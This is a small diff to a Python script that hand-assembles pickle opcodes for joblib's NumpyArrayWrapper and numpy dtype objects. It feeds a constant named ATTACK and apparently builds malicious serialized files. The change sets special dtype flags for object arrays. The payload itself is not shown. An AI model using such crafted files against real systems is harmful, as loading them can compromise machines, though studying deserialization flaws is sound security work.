@@ -14,14 +14,14 @@ ATTACK = PROTO2 + payload() + STOP
 DATA = struct.pack("<4f", 1, 2, 3, 4)
 
 
-def dtype(code, order="<"):
-    state = items(integer(3), text(order), NONE, NONE, NONE, integer(-1), integer(-1), integer(0))
+def dtype(code, order="<", flags=0):
+    state = items(integer(3), text(order), NONE, NONE, NONE, integer(-1), integer(-1), integer(flags))
     return call(name("numpy", "dtype"), text(code), FALSE, TRUE) + state + BUILD
 
 
 def wrapper(shape=(4,), code="f4", order="<", aligned=True):
     """The object that stands for an array; its bytes follow."""
-    fields = {"subclass": name("numpy", "ndarray"), "shape": constant(shape), "order": text("C"), "dtype": dtype(code, order), "allow_mmap": TRUE}
+    fields = {"subclass": name("numpy", "ndarray"), "shape": constant(shape), "order": text("C"), "dtype": dtype(code, order, 63 if code == "O8" else 0), "allow_mmap": TRUE}
     if aligned:
         fields["numpy_array_alignment_bytes"] = integer(ALIGNMENT)
     return name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + dictionary(**fields) + BUILD
